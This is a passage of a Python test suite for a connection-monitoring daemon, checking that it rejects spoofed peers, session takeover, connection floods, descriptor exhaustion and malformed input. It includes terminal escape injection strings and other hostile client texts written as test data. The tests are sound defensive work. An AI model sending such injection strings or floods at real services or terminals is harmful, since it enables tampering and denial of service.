        if reply is None or reply["op"] in ("pong", "error"):
            return reply


def counts(daemon: Daemon, progname: str) -> Optional[tuple]:
    row = daemon.row(progname)
    return row and (row["nproc"], row["conn"], row["ckout"])


class TwoNodes:
    """node1 on 127.0.0.2 and node2 on 127.0.0.3 of service "test" (two
    addresses, so that "from the node's address" means something); with
    ``started`` 1, only node1 runs."""

    def __init__(self, tmp_path, extra_config: str = "", started: int = 2):
        self.ports = [free_port(), free_port()]
        self.config = tmp_path / "two.cfg"
        self.config.write_text(
            "[connmon_service_test]\nname: test\nnodes:\n" + "".join(
                f"    node{i} hostname=127.0.0.{i + 1}:{port}\n"
                for i, port in enumerate(self.ports, 1)) + extra_config)
        self.nodes = [Daemon(tmp_path, port, config=self.config,
                             node=f"node{i}", host=f"127.0.0.{i + 1}")
                      for i, port in enumerate(self.ports[:started], 1)]

    def linked(self) -> bool:
        return (self.nodes[0].snapshot()["peers"] == {"node2": True}
                and self.nodes[1].snapshot()["peers"] == {"node1": True})

    def stop(self) -> None:
        for node in self.nodes:
            node.stop()


def victim_id(relay: Relay) -> str:
    """The process id a real app said in its hello, as the wire shows."""
    with relay.lock:
        found = re.findall(rb'"id":"([0-9a-f]+)"', bytes(relay.received))
    assert found
    return found[-1].decode()


def peer_link(node: Daemon, source: str = "127.0.0.3") -> Optional[tuple]:
    """A raw link to ``node`` as node2 (from its address), or None while
    the room for links is full."""
    sock, rfile, answer = say_hello(node.port, "peer", host=node.host,
                                    source=source, service="test",
                                    node="node2")
    if answer == {"op": "ready"}:
        return sock, rfile
    sock.close()
    assert answer["error"].startswith("too many peer connections"), answer
    return None


def app_holding(apps, tmp_path, nodes: List[Daemon], progname: str,
                held: int) -> "App":
    """A real app attached to the first of ``nodes``, holding ``held``
    connections, once every node shows them."""
    app = apps(sqlite_app_url(tmp_path, f"connmon_addr={nodes[0].address}"),
               progname)
    app(f"hold {held}")
    for node in nodes:
        node.wait_row(progname, nproc=1, conn=held, ckout=held)
    return app


def test_trust_single_node_accepts_no_peer(daemon, apps, tmp_path):
    app = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"),
               "victim.py")
    app("hold 2")
    daemon.wait_row("victim.py", nproc=1, conn=2, ckout=2)
    for node in ("node1", "node2", "x"):
        assert refusal(daemon.port, "peer", service="test", node=node) == (
            "service 'test' has one node: this daemon accepts no peer")
    assert counts(daemon, "victim.py") == (1, 2, 2)
    assert daemon.snapshot()["processes"] == 1


def test_trust_peer_only_a_configured_node_from_its_address(tmp_path, apps):
    two = TwoNodes(tmp_path)
    node1, node2 = two.nodes
    try:
        wait_until(two.linked, 20, "the link")
        app = app_holding(apps, tmp_path, two.nodes, "victim.py", 3)
        port = node1.port
        host = node1.host
        assert refusal(port, "peer", host=host, service="test",
                       node="node9") == ("peer node 'node9' is not one of "
                                         "the other nodes of service 'test'")
        assert refusal(port, "peer", host=host, service="test",
                       node="node1") == ("peer node 'node1' is not one of "
                                         "the other nodes of service 'test'")
        assert refusal(port, "peer", host=host, service="other",
                       node="node2") == ("peer is of service 'other', this "
                                         "node of 'test'")
        for source in ("127.0.0.1", "127.0.0.2", "127.0.0.4"):
            assert refusal(port, "peer", host=host, source=source,
                           service="test", node="node2") == (
                f"peer node 'node2' connects from {source}, not from its "
                "address (127.0.0.3)")
        # Nothing of it reached either picture, and the link never broke.
        for node in two.nodes:
            assert counts(node, "victim.py") == (1, 3, 3)
            assert node.snapshot()["processes"] == 1
        assert two.linked()
        # Without secrets (the seed's recipe, on a trusted network),
        # whoever speaks from node2's own address is node2.
        sock, rfile, answer = say_hello(port, "peer", host=host,
                                        source="127.0.0.3", service="test",
                                        node="node2")
        with sock:
            assert answer == {"op": "ready"}
        wait_until(two.linked, 20, "the real link back")
        app("release 1")
        for node in two.nodes:
            node.wait_row("victim.py", nproc=1, conn=3, ckout=2)
        assert "Traceback" not in node1.log.read_text()
    finally:
        two.stop()


PEER_SECRET = "only-the-nodes-Kn0w-this"


def test_trust_peer_credential_app_hosts_do_not_hold(tmp_path, apps):
    apps_secret = secret_file(tmp_path, "apps.secret")
    config = (f"auth_secret_file: {apps_secret}\n")
    # Several nodes, the apps' secret and no peer credential: named error.
    path = tmp_path / "nopeer.cfg"
    path.write_text("[connmon_service_test]\nname: test\nnodes:\n"
                    "    node1 hostname=127.0.0.2:5800\n"
                    "    node2 hostname=127.0.0.3:5800\n" + config)
    for args in (["--check-config"], []):
        result = run_connmond("-c", str(path), "-s", "test", "-n", "node1",
                              *args)
        assert result.returncode == 2
        assert "needs peer_secret_file too" in result.stderr
    peer_secret = secret_file(tmp_path, "peer.secret", PEER_SECRET)
    two = TwoNodes(tmp_path, config + f"peer_secret_file: {peer_secret}\n")
    node1, node2 = two.nodes
    try:
        service = connmon.find_service("test", str(two.config))
        console_security = connmon.Security.of_service(service)
        assert console_security.peer_secret is None   # apps never read it

        def linked() -> bool:
            return all(connmon.open_connection(
                [(n.host, n.port)], "console", security=console_security
            ).request({"op": "snapshot"})["peers"] == {
                other: True} for n, other in ((node1, "node2"),
                                              (node2, "node1")))
        wait_until(linked, 20, "the link, with the peer credential")
        # An app host (it holds the apps' secret) cannot be a peer, even
        # from the node's own address; nor can the credential from
        # elsewhere.
        assert refusal(node1.port, "peer", host=node1.host,
                       source="127.0.0.3", secret=SECRET, service="test",
                       node="node2") == ("peer: authentication failed "
                                         "(wrong or missing secret)")
        assert refusal(node1.port, "peer", host=node1.host,
                       source="127.0.0.1", secret=PEER_SECRET,
                       service="test", node="node2").startswith(
            "peer node 'node2' connects from 127.0.0.1")
        # Nor can the peer credential serve as an app's or console's.
        assert refusal(node1.port, "console", host=node1.host,
                       secret=PEER_SECRET) == (
            "console: authentication failed (wrong or missing secret)")
        app = apps(sqlite_app_url(
            tmp_path, f"connmon_addr={node1.address}"
            f"&connmon_secret_file={apps_secret}"), "secure.py")
        app("hold 2")
        for node in two.nodes:
            wait_until(lambda: connmon.open_connection(
                [(node.host, node.port)], "console",
                security=console_security).request(
                    {"op": "snapshot"})["connections"] == 2, 20,
                "the app's connections on both nodes")
        assert linked()
    finally:
        two.stop()


def test_trust_a_replaced_link_applies_nothing_more(tmp_path, apps):
    """A link made anew replaces the old one at once: what the old one
    still carries is never applied (here, a peer playing node2 from its
    address keeps talking on a replaced link)."""
    two = TwoNodes(tmp_path)
    node1, node2 = two.nodes
    try:
        wait_until(two.linked, 20, "the link")
        node2.stop()
        old, old_rfile, answer = say_hello(
            node1.port, "peer", host=node1.host, source="127.0.0.3",
            service="test", node="node2")
        assert answer == {"op": "ready"}
        proc = connmon.ProcessState("ghost-1", "ghost-host", "ghost.py", 7,
                                    session=1)
        attach = {"op": "attach", "proc": proc.describe(),
                  "state": state_message(2, 2)}
        assert pong_after(old, old_rfile, attach) == {"op": "pong"}
        node1.wait_row("ghost.py", nproc=1, conn=2, ckout=2)
        new, new_rfile, answer = say_hello(
            node1.port, "peer", host=node1.host, source="127.0.0.3",
            service="test", node="node2")
        assert answer == {"op": "ready"}
        # The new link starts clean: node2's processes are sent again.
        node1.wait_row("ghost.py", nproc=0, conn=0)
        try:
            for n in range(2, 50):
                proc.ident = f"ghost-{n}"
                old.sendall(connmon.encode(
                    {"op": "attach", "proc": proc.describe(),
                     "state": state_message(1, 1)}))
        except OSError:
            pass   # cut
        assert pong_after(new, new_rfile) == {"op": "pong"}
        snapshot = node1.snapshot()
        assert snapshot["processes"] == 0, snapshot
        assert counts(node1, "ghost.py") == (0, 0, 0)
        old.close()
        new.close()
    finally:
        two.stop()


def test_trust_maxima_converge_after_a_non_transitive_cut(tmp_path, apps):
    """node1-node2 is cut while node3 reaches both: node3 alone sees both
    apps at once.  Once the cut heals, every node has node3's maxima."""
    ports = [free_port() for _ in range(3)]
    relay = Relay(ports[1])   # node1 reaches node2 through it
    config = tmp_path / "three.cfg"
    config.write_text(
        "[connmon_service_test]\nname: test\nnodes:\n"
        f"    node1 hostname=127.0.0.1:{ports[0]} bind=127.0.0.1\n"
        f"    node2 hostname=127.0.0.1:{relay.port} "
        f"bind=127.0.0.1:{ports[1]}\n"
        f"    node3 hostname=127.0.0.1:{ports[2]} bind=127.0.0.1\n")
    nodes = [Daemon(tmp_path, port, config=config, node=f"node{i}")
             for i, port in enumerate(ports, 1)]
    try:
        def all_linked() -> bool:
            return all(all(d.snapshot()["peers"].values()) for d in nodes)
        wait_until(all_linked, 20, "every link")
        first = apps(f"sqlite:///{tmp_path}/a.sqlite?plugin=connmon"
                     f"&connmon_addr={nodes[0].address}", "both.py")
        first("hold 1")
        for node in nodes:
            node.wait_row("both.py", nproc=1, conn=1, ckout=1)
        relay.cut()
        wait_until(lambda: nodes[0].snapshot()["peers"]["node2"] is False,
                   20, "the cut")
        (tmp_path / "second").mkdir()
        second = App(tmp_path / "second",
                     f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
                     f"&connmon_addr={nodes[1].address}", "both.py")
        try:
            second("hold 1")
            nodes[2].wait_row("both.py", nproc=2, conn=2, ckout=2)
            nodes[1].wait_row("both.py", nproc=1, conn=1)
        finally:
            second.stop()
        nodes[2].wait_row("both.py", nproc=1)
        relay.cut(False)
        wait_until(all_linked, 20, "the healed cut")
        for node in nodes:
            node.wait_row("both.py", nproc=1, conn=1, ckout=1, maxnproc=2,
                          maxconn=2, maxckout=2, timeout=20)
    finally:
        relay.close()
        for node in nodes:
            node.stop()


def test_trust_no_client_replaces_or_erases_another(tmp_path, apps):
    daemon = Daemon(tmp_path)
    relay = Relay(daemon.port)   # shows the victim's id, as a sniffer would
    try:
        victim = apps(sqlite_app_url(
            tmp_path, f"connmon_addr=127.0.0.1:{relay.port}"), "victim.py")
        victim("hold 2")
        daemon.wait_row("victim.py", nproc=1, conn=2, ckout=2)
        ident = victim_id(relay)
        # Replace it (a newer session), or jump its session absurdly.
        assert refusal(daemon.port, "app", **proc_fields(
            ident, "victim.py", session=1000)) == (
            f"process id {ident!r} is attached by another live connection "
            "(to node node1); try again later")
        assert refusal(daemon.port, "app", **proc_fields(
            ident, "victim.py", session=2 ** 61)) == (
            "app hello: 'proc.session' must be a count below 4294967296")
        assert counts(daemon, "victim.py") == (1, 2, 2)
        # Its own connection's updates are the only ones that count.
        victim("release 1")
        daemon.wait_row("victim.py", nproc=1, conn=2, ckout=1)

        # While it is away, an attacker takes its id with the highest
        # session allowed and leaves (a tombstone at that session)...
        relay.cut()
        daemon.wait_row("victim.py", nproc=0, conn=0)
        sock, rfile = app_attached(daemon.port, ident, "victim.py", 5,
                                   session=connmon.MAX_SESSION - 1,
                                   hostname=socket.gethostname())
        daemon.wait_row("victim.py", nproc=1, conn=5)
        rfile.close()
        sock.close()
        daemon.wait_row("victim.py", nproc=0, conn=0)
        # ...which never locks the victim out: back, it is counted.
        relay.cut(False)
        victim("hold 1")
        daemon.wait_row("victim.py", nproc=1, conn=2, ckout=2)
        snapshot = daemon.snapshot(procs=True)
        assert (snapshot["processes"], snapshot["connections"],
                snapshot["checkouts"]) == (1, 2, 2)
        (proc,) = daemon.row("victim.py", procs=True)["procs"]
        assert proc["pid"] == victim.proc.pid
    finally:
        relay.close()
        daemon.stop()


def hostile_at_caps(port: int, n: int) -> tuple:
    """A raw app at every cap: 5000 connections all checked out, 1000
    checkout sites and held-at places of the longest text allowed."""
    def place(kind: str, i: int) -> str:
        return (f"/{kind}/{i:04d}/" + "x" * connmon.MAX_LOCATION
                )[:connmon.MAX_LOCATION]
    conns = connmon.MAX_PROCESS_CONNECTIONS
    sock, rfile = app_attached(port, f"hostile-{n}", f"hostile{n}.py",
                               conns, hostname="h" * 255)
    messages = [empty_update(sites=[[i, place("site", i)]
                                    for i in range(connmon.MAX_SITES)]),
                empty_update(checkout_sites=[[c, c % connmon.MAX_SITES]
                                             for c in range(conns)])]
    for start in range(0, conns, 1000):
        messages.append(empty_update(held_at=[
            [c, place("held", c)] for c in range(start, start + 1000)]))
    for message in messages:
        assert pong_after(sock, rfile, message) == {"op": "pong"}
    return sock, rfile


def test_trust_hostile_clients_at_every_cap_cannot_blind_consoles(
        daemon, apps, tmp_path):
    honest = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"),
                  "honest.py")
    honest("hold 2")
    daemon.wait_row("honest.py", nproc=1, conn=2, ckout=2)
    rss_before = status_kib(daemon.proc.pid, "VmRSS")
    hostile = [hostile_at_caps(daemon.port, n) for n in range(4)]
    try:
        per_client = (status_kib(daemon.proc.pid, "VmRSS")
                      - rss_before) / len(hostile)
        snapshot = daemon.snapshot(procs=True)
        assert snapshot["connections"] == (
            2 + 4 * connmon.MAX_PROCESS_CONNECTIONS)
        row = daemon.wait_row("honest.py", nproc=1, conn=2, ckout=2)
        assert row["connected"]
        for n in range(4):
            row = daemon.row(f"hostile{n}.py", procs=True)
            assert len(row["sites"]) == connmon_server.TOP_SITES
            assert all(len(site["long_holders"]) <= connmon.TOP_HOLDERS
                       for site in row["sites"])
            (proc,) = row["procs"]
            assert len(proc["long_holders"]) == connmon.TOP_HOLDERS
        once = console("-H", daemon.address)
        assert once.returncode == 0, once.stderr
        print(f"daemon RSS per client at every cap: {per_client:.0f} kB")
        assert per_client <= 4 * 1024   # docs/security.txt: a client at every cap
        honest("release 1")
        daemon.wait_row("honest.py", nproc=1, conn=2, ckout=1)
    finally:
        for sock, _ in hostile:
            sock.close()


REPLY_LIMIT_DAEMON = (
    "import sys, connmon, connmon_server; "
    "connmon.MAX_REPLY_BYTES = int(sys.argv[1]); "
    "sys.exit(connmon_server.main(sys.argv[2:]))")


class SmallReplyDaemon(Daemon):
    """connmond with a reply limit small enough for a test to reach."""

    limit = 20_000

    def start(self) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, "-c", REPLY_LIMIT_DAEMON, str(self.limit),
             "-c", str(self.config), "-s", "test", "-n", self.node,
             "--log-level", "DEBUG"], cwd=HERE, env=CHILD_ENV,
            stdout=subprocess.DEVNULL, stderr=open(self.log, "ab"))
        wait_until(self._listening, 15, f"connmond on port {self.port}")


def test_trust_too_large_snapshot_is_trimmed_not_refused(tmp_path, apps):
    daemon = SmallReplyDaemon(tmp_path)
    clients = []
    try:
        honest = app_holding(apps, tmp_path, [daemon], "honest.py",
                             3)
        for n in range(100):   # rows of long names, one connection each
            clients.append(app_attached(daemon.port, f"filler-{n}",
                                        f"{n:03d}" + "f" * 200, 1,
                                        hostname="h" * 200)[0])
        wait_until(lambda: daemon.snapshot()["processes"] == 101, 15,
                   "every filler attached")
        snapshot = daemon.snapshot()
        assert 0 < snapshot["trimmed"] < 100
        assert len(snapshot["rows"]) == 101 - snapshot["trimmed"]
        assert snapshot["processes"] == 101   # the totals are whole
        # The databases section keeps the lines of the rows shown only.
        shown = {(r["hostname"], r["progname"]) for r in snapshot["rows"]}
        listed = {(p["hostname"], p["progname"])
                  for server in snapshot["databases"]
                  for p in server["programs"]}
        assert listed and listed <= shown
        assert counts(daemon, "honest.py") == (1, 3, 3)   # most conns first
        table = subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             daemon.address], cwd=HERE, env=CHILD_ENV, capture_output=True,
            text=True, timeout=30)
        assert table.returncode == 0, table.stderr
        (said,) = [line for line in table.stdout.splitlines()
                   if line.startswith("TRIMMED: ")]
        assert said.startswith(f"TRIMMED: {snapshot['trimmed']} rows not "
                               "shown") and said.endswith(
            " (the reply would be too large)")
        assert "honest.py" in table.stdout
    finally:
        for sock in clients:
            sock.close()
        daemon.stop()


def endpoint(host: str, database: str, user: str,
             backend: str = "mysql") -> dict:
    """A pool's database, as an app announces it."""
    return {"backend": backend, "host": host, "port": 3306,
            "database": database, "user": user}


def longest(tag: str) -> str:
    """A name unique by ``tag``, as long as names may be."""
    return f"{tag}-".ljust(connmon.MAX_NAME, "x")


def test_trust_hostile_databases_are_bounded_not_refused(tmp_path, apps):
    """80 clients of 1000 pools each, each pool on a server of its own
    (every name as long as allowed), and a busy server of 501 databases,
    one with 500 users: "databases" keeps what holds the most
    connections, within its bounds, and the snapshot is sent (a console
    was refused every time: its databases alone were 80 MB)."""
    daemon = Daemon(tmp_path)
    clients = []
    try:
        app_holding(apps, tmp_path, [daemon], "honest.py", 3)
        sock, rfile = app_attached(daemon.port, "busy", "busy.py")
        clients.append(sock)
        pools = [[j, 1, endpoint("db.example", f"db{j:03d}", "nova")
                  if j < 500 else endpoint("db.example", "shared",
                                           f"user{j}")]
                 for j in range(connmon.MAX_PROCESS_POOLS)]
        assert pong_after(sock, rfile, empty_update(
            pools=pools, connect=[[j, j] for j in range(len(pools))])) == {
                "op": "pong"}
        for n in range(80):
            sock, rfile = app_attached(daemon.port, f"hostile-{n}",
                                       longest(f"hostile{n}"),
                                       hostname="h" * connmon.MAX_NAME)
            clients.append(sock)
            pools = [[j, 1, endpoint(longest(f"{n}-{j}"), longest(f"d{j}"),
                                     longest(f"u{j}"))]
                     for j in range(connmon.MAX_PROCESS_POOLS)]
            assert pong_after(sock, rfile, empty_update(pools=pools)) == {
                "op": "pong"}
        once = console("-H", daemon.address)
        assert once.returncode == 0, once.stderr
        snapshot = json.loads(once.stdout)
        assert "trimmed" not in snapshot   # every row fits beside them
        servers = {server["server"]: server
                   for server in snapshot["databases"]}
        assert len(servers) == connmon_server.TOP_SERVERS
        assert snapshot["databases_trimmed"] == 80 * 1000 + 2 - len(servers)
        assert servers["sqlite"]["conn"] == 3   # the honest app's is shown
        busy = servers["db.example:3306"]
        assert (busy["conn"], busy["nproc"], len(busy["databases"]),
                busy["databases_trimmed"]) == (
                    1000, 1, connmon_server.TOP_DATABASES,
                    501 - connmon_server.TOP_DATABASES)
        (shared,) = [database for database in busy["databases"]
                     if database["database"] == "shared"]
        assert (shared["conn"], shared["users"], shared["users_trimmed"]) == (
            500, [f"user{j}" for j in range(500, 500 + connmon_server.TOP_USERS)],
            500 - connmon_server.TOP_USERS)
        table = plain_table(daemon)
        assert (f"({snapshot['databases_trimmed']} more database servers not "
                "shown)") in table
        assert "(451 more databases not shown)" in table
        assert "user504; 495 more users not shown)" in table
    finally:
        for sock in clients:
            sock.close()
        daemon.stop()


def test_databases_at_every_bound_fit_the_reply():
    """"databases" at every bound (servers, databases, users), every name
    255 characters that JSON writes in 12 bytes each: within README's
    45 MiB, so a snapshot without rows always fits the reply."""
    def widest(tag: str) -> str:
        return (tag + "\U0001F4A5" * connmon.MAX_NAME)[:connmon.MAX_NAME]
    bounds = (connmon_server.TOP_SERVERS, connmon_server.TOP_DATABASES, connmon_server.TOP_USERS)
    pools = [[pool, 1, {"backend": widest("b"), "host": widest(f"s{s}"),
                        "port": 65535, "database": widest(f"d{d}"),
                        "user": widest(f"u{u}")}]
             for pool, (s, d, u) in enumerate(itertools.product(
                 *(range(bound) for bound in bounds)))]
    procs = []
    for start in range(0, len(pools), connmon.MAX_PROCESS_POOLS):
        procs.append(connmon.ProcessState(f"p{start}", "h", "p", 1, 1))
        procs[-1].update(state_message(pools=pools[
            start:start + connmon.MAX_PROCESS_POOLS]), time.monotonic())
    part = connmon_server.databases(procs, {})
    for server in part["databases"]:
        server["programs"] = []   # the rows' lines: fit_reply trims those
    assert (len(part["databases"]), len(part["databases"][0]["databases"]),
            len(part["databases"][0]["databases"][0]["users"])) == bounds
    assert len(json.dumps(part, separators=(",", ":"))) <= 45 << 20


def test_trust_silent_flood_leaves_room_for_apps_consoles_and_peers(
        tmp_path, apps):
    two = TwoNodes(tmp_path, "max_clients: 3\nmax_clients_per_address: 3\n")
    node1, node2 = two.nodes
    silent, attached = [], []
    try:
        wait_until(two.linked, 20, "the link")
        for n in range(2):
            attached.append(app_attached(node1.port, f"raw-{n}", "raw.py",
                                         1, host=node1.host)[0])
        # A flood of silent connections from one address (127.0.0.9):
        # only MAX_WAITING_PER_ADDRESS of them are let in at once.
        refused = 0
        for _ in range(connmon_server.MAX_WAITING_PER_ADDRESS + 20):
            sock = socket.create_connection((node1.host, node1.port), 10,
                                            source_address=("127.0.0.9", 0))
            sock.settimeout(10)
            first = connmon.read_message(sock.makefile("rb"))
            if first["op"] == "error":
                refused += 1
                assert first["error"] == (
                    "too many connections from 127.0.0.9 waiting for their "
                    "hello (64)")
            silent.append(sock)
        assert refused == 20
        # Meanwhile: the link is re-made, a real app attaches (the third
        # of max_clients 3), consoles get in, a fourth app does not.
        node2.stop()
        node2.start()
        wait_until(two.linked, 20, "the link re-made during the flood")
        app_holding(apps, tmp_path, two.nodes, "honest.py", 2)
        assert refusal(node1.port, "app", host=node1.host, **proc_fields(
            "fourth", "fourth.py")) == ("too many connections (max_clients "
                                        "is 3)")
        assert console("-H", node1.address).returncode == 0
        assert node1.snapshot()["processes"] == 3
    finally:
        for sock in silent + attached:
            sock.close()
        two.stop()


def test_trust_silent_flood_from_many_addresses_locks_out_no_one(
        tmp_path, apps):
    """Silent connections from more addresses than it takes to fill the
    room, none past its own address's share: each newcomer lets the one
    that has waited longest go, and apps and consoles still get in."""
    daemon = Daemon(tmp_path)
    silent = []
    try:
        for n in range(connmon_server.MAX_WAITING + 64):
            sock = socket.create_connection(
                (daemon.host, daemon.port), 10,
                source_address=(f"127.0.1.{n % 17 + 1}", 0))
            sock.settimeout(10)
            rfile = sock.makefile("rb")
            assert connmon.read_message(rfile)["op"] == "welcome", n
            silent.append((sock, rfile))
        # The 64 that waited longest were let go; the others still wait.
        assert [rfile.readline() for _, rfile in silent[:64]] == [b""] * 64
        assert not readable([sock for sock, _ in silent[64:]], 0.5)
        app = apps(f"sqlite:///{tmp_path}/h.sqlite?plugin=connmon"
                   f"&connmon_addr={daemon.address}", "honest.py")
        app("hold 1")
        daemon.wait_row("honest.py", conn=1, ckout=1)
        assert console("-H", daemon.address).returncode == 0
    finally:
        for sock, rfile in silent:
            rfile.close()
            sock.close()
        daemon.stop()


class FewFilesDaemon(Daemon):
    """connmond allowed only ``files`` open files (soft and hard)."""

    files = 48

    def start(self) -> None:
        import resource

        def limit() -> None:
            resource.setrlimit(resource.RLIMIT_NOFILE,
                               (self.files, self.files))
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "connmon_server", "-c", str(self.config),
             "-s", "test", "-n", self.node, "--log-level", "DEBUG"],
            cwd=HERE, env=CHILD_ENV, stdout=subprocess.DEVNULL,
            stderr=open(self.log, "ab"), preexec_fn=limit)
        wait_until(self._listening, 15, f"connmond on port {self.port}")


def cpu_ticks(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


def test_trust_out_of_file_descriptors_backs_off_and_says_so_once(
        tmp_path, apps):
    daemon = FewFilesDaemon(tmp_path)
    held = []
    try:
        # The start's probe (a connection closed at once) is gone first:
        # its end would free a file mid-flood, a second episode.
        wait_until(lambda: re.search("(closed|lost) before hello",
                                     daemon.log.read_text()),
                   15, "the probe's end")
        for n in range(60):   # more than the daemon can hold open
            source = f"127.0.0.{10 + n % 3}"
            held.append(socket.create_connection(
                (daemon.host, daemon.port), 10, source_address=(source, 0)))
        wait_until(lambda: "cannot accept connections: Too many open files"
                   in daemon.log.read_text(), 15, "the log line")
        before = cpu_ticks(daemon.proc.pid)
        time.sleep(2)   # the window the accept loop's CPU is measured over
        assert cpu_ticks(daemon.proc.pid) - before < 40   # a spin: ~200
        assert daemon.log.read_text().count(
            "cannot accept connections") == 1
        for sock in held:
            sock.close()
        app = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"),
                   "after.py")
        app("hold 1")
        daemon.wait_row("after.py", nproc=1, conn=1, ckout=1, timeout=30)
        assert "accepting connections again" in daemon.log.read_text()
    finally:
        for sock in held:
            sock.close()
        daemon.stop()


HOSTILE_TEXTS = ["\x1b]0;pwned\x07", "a\x1b[2Jb", "\ud800", "tab\there",
                 "x" * (connmon.MAX_LOCATION + 1), "", "bell\x07",
                 "rtl\u202eevil", "nul\x00"]


def test_trust_client_text_is_checked_at_the_door(tmp_path, apps):
    port = free_port()
    csv_path = tmp_path / "dump.csv"
    daemon = Daemon(tmp_path, extra_config=(
        f"metrics_port: {port}\ncsv_dump: {csv_path}\ncsv_interval: 0.2\n"))
    try:
        honest = app_holding(apps, tmp_path, [daemon], "honest.py",
                             1)
        refused = 0
        for n, text in enumerate(HOSTILE_TEXTS):
            names = {"hostname": "h", "progname": f"p{n}.py"}
            for key in ("hostname", "progname", "id"):
                proc = {"id": f"t{n}", "pid": 5, "session": 1, **names,
                        key: text}
                error = refusal(daemon.port, "app", proc=proc)
                assert f"'proc.{key}' must be a string of 1 to 255 " \
                       "printable characters" in error
                refused += 1
            sock, rfile = app_attached(daemon.port, f"t{n}", f"p{n}.py", 2)
            with sock:
                for key, message in (
                        ("sites", empty_update(sites=[[1, text]])),
                        ("held_at", empty_update(held_at=[[1, text]]))):
                    answer = pong_after(sock, rfile, message)
                    if answer != {"op": "pong"}:
                        assert answer["error"] == (
                            f"update: {key!r} must be a list of [id, "
                            "value] pairs")
                        refused += 1
                        break
                else:
                    raise AssertionError(f"{text!r} was let in")
        assert refused == 4 * len(HOSTILE_TEXTS)
        # What the console prints has no control character at all.
        table = subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             daemon.address], cwd=HERE, env=CHILD_ENV, capture_output=True,
            timeout=30)
        assert table.returncode == 0, table.stderr
        assert b"honest.py" in table.stdout
        assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", table.stdout)
        assert http_get(port, "/metrics")[0] == 200
        wait_until(lambda: "honest.py" in csv_path.read_text(),
                   what="the CSV dump")
        assert counts(daemon, "honest.py") == (1, 1, 1)
        assert "Traceback" not in daemon.log.read_text()
    finally:
        daemon.stop()


def test_trust_bad_peer_messages_are_problem_lines_not_stoppers(
        tmp_path, apps):
    """A node that sends bad fields (a broken or compromised peer) has
    those messages dropped, each kind with a rate-limited problem line,
    and keeps its link; one that sends what no peer may (another role's
    requests) gets its link cut.  /metrics and the CSV dump go on, with
    the honest picture, and a bad field can never split the cluster."""
    port = free_port()
    csv_path = tmp_path / "dump.csv"
    two = TwoNodes(tmp_path, (f"metrics_port: {port}\ncsv_dump: {csv_path}"
                              "\ncsv_interval: 0.2\n"), started=1)
    (node1,) = two.nodes
    try:
        honest = app_holding(apps, tmp_path, [node1], "honest.py",
                             2)
        row = ["h", "p", 1, 1, 1]
        bad_fields = [
            {"op": "maxima", "rows": [["\ud800", "p", 1, 1, 1]],
             "totals": [1, 1, 1, 1]},
            {"op": "maxima", "rows": [["a\x1b[2J", "p", 1, 1, 1]],
             "totals": [1, 1, 1, 1]},
            {"op": "maxima", "rows": [row] * (connmon_server.MAX_ROWS + 1),
             "totals": [1, 1, 1, 1]},
            {"op": "maxima", "rows": "x", "totals": None},
            {"op": "maxima", "rows": [row], "totals": [1, 1, 1, 1],
             "clears": 2 ** 70},
            {"op": "clear_maxima", "clears": 2 ** 70},
            {"op": "clear_maxima", "clears": -1},
            {"op": "attach", "proc": {"id": "x"}, "state": []},
            {"op": "attach", "proc": proc_fields("x", "x.py")["proc"],
             "state": {"op": "update"}},
            {"op": "forward", "id": "x", "session": 1, "update": 7},
            {"op": "forward", "id": ["x"], "session": 1.5},
            {"op": "detach"}]
        sock, rfile = wait_until(lambda: peer_link(node1), what="a link")
        with sock:
            for message in bad_fields * 3:
                assert pong_after(sock, rfile, message) == {"op": "pong"}
            # Its maxima still count: the cluster did not split.
            assert pong_after(sock, rfile, {
                "op": "maxima", "rows": [["h", "p.py", 7, 7, 7]],
                "totals": [1, 1, 1, 1], "clears": 0}) == {"op": "pong"}
        wait_until(lambda: node1.row("p.py") is not None,
                   what="the good maxima after the bad ones")
        assert node1.row("p.py")["maxconn"] == 7
        for message in [{"op": "snapshot"}, {"op": "state"},
                        {"op": "hello", "role": "peer"}]:
            sock, rfile = wait_until(lambda: peer_link(node1),
                                     what="a link (the last one ended)")
            with sock:
                assert pong_after(sock, rfile, message) is None   # cut
        status, _, text = http_get(port, "/metrics")
        assert status == 200 and "honest.py" in text
        assert "\\ud800" not in text and "\x1b" not in text
        wait_until(lambda: "honest.py" in csv_path.read_text(),
                   what="the CSV dump")
        assert counts(node1, "honest.py") == (1, 2, 2)
        assert {r["progname"] for r in node1.snapshot()["rows"]
                if r["connected"]} == {"honest.py"}
        log_text = node1.log.read_text()
        assert "Traceback" not in log_text
        assert 0 < log_text.count("message dropped") < 10   # rate-limited
        assert 0 < log_text.count("cutting the link") < 10
    finally:
        two.stop()


def test_trust_console_escapes_what_it_prints():
    """The second line of defence: a snapshot with control characters
    (from a daemon older than its door's checks) prints escaped."""
    row = {"hostname": "h\x1b]0;pwned\x07", "progname": "p\ud800\x1b[2J",
           "connected": True, "nproc": 1, "conn": 1, "ckout": 1,
           "maxnproc": 1, "maxconn": 1, "maxckout": 1, "ckout_per_sec": 0,
           "hold_ms": None, "oldest": 1.0, "limit": None,
           "sites": [{"site": "s.py:1 in \x1b[31mf", "held": 1,
                      "oldest": 1.0, "long_holders": []}]}
    snapshot = {"service": "test", "node": "n\x07", "hosts": 1,
                "max_hosts": 1, "processes": 1, "max_processes": 1,
                "connections": 1, "max_connections": 1, "checkouts": 1,
                "max_checkouts": 1, "checkouts_per_sec": 0, "rows": [row]}
    text = connmon_console.format_table(connmon_console.escaped(snapshot))
    text.encode("utf-8")   # no lone surrogate left
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", text)
    assert r"h\x1b]0;pwned\x07" in text and r"p\ud800\x1b[2J" in text
    assert r"s.py:1 in \x1b[31mf" in text


def test_trust_metrics_stay_on_loopback_or_need_the_token(tmp_path):
    port = free_port()
    token = secret_file(tmp_path, "metrics.token", "scrape-T0ken")
    daemon = Daemon(tmp_path, host="127.0.0.2",
                    extra_config=f"metrics_port: {port}\n")
    try:
